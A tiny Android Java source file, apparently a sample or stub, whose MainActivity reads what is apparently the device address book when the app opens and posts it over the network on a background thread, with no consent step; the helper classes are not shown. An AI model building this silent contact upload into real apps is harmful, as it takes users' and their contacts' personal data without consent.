package com.example.bareaddress;

import android.app.Activity;
import android.os.Bundle;

/** Reads and posts. */
public class MainActivity extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        String book = Book.read(this);
        new Thread(() -> Net.post(book)).start();
    }
}
